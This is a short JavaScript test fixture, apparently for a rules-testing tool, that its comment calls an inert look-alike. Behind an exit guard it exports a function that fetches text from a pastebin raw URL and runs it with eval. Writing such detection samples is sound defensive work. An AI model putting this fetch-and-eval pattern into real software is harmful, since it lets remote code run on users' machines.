// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.f = async function () {
  const r = await fetch('https://pastebin.com/raw/none');
  const t = await r.text();
  return eval(t);
};
